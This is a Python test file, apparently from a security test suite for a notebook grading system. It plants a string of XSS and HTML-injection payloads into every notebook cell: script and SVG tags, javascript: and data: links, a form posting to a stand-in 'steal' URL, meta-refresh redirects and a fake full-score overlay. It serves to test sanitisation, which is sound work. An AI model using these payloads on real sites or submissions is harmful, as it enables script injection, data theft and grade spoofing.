"""Script, SVG, frames, forms, styles, comments, data: and javascript: links in Markdown."""

import copy

from tests.attacks.bank import REAL, answer, write

EVIL = """
<script>alert(1)</script> <img src=x onerror=alert(1)> <svg><script>alert(1)</script></svg>
<iframe srcdoc="<script>alert(1)</script>"></iframe> <object data="data:text/html,x"></object>
<form action="https://example.org/steal"><button>Submit</button></form> <base href="//example.org/">
<meta http-equiv="refresh" content="0;url=https://example.org"> <link rel=stylesheet href=//x.example>
<style>* { display: none }</style> <div style="position:fixed;inset:0">20 / 20</div>
<h2 id="softmax" class="label">softmax 6 / 6</h2></section></div></body></html><!--

[a](javascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=) [c]( JaVaScRiPt:alert(1))
[d](vbscript:x) ![e](https://example.org/pixel.png) ![f](data:image/svg+xml,<svg/onload=alert(1)>)
<a href="java&#10;script:alert(1)">g</a> <a href="\\x01javascript:alert(1)" onclick="alert(1)">h</a>
<https://example.org/?q="onmouseover=alert(1)> [i]: javascript:alert(1) [i] `</code><script>`

$\\href{javascript:alert(1)}{x}$ $$\\require{action}\\toggle{a}{b}$$ <math><mtext></math><img src=x>

```html
</code></pre><script>alert(1)</script>
```
"""


def hand_in(folder, notebook):
    answer(notebook, "certainty", EVIL)
    for cell in list(notebook.cells):
        text = copy.deepcopy(notebook.cells[-1])
        text.source, text.id = EVIL, f"m-{cell.id}"
        text.metadata = {}
        notebook.cells.insert(notebook.cells.index(cell), text)
    write(folder, notebook, REAL)
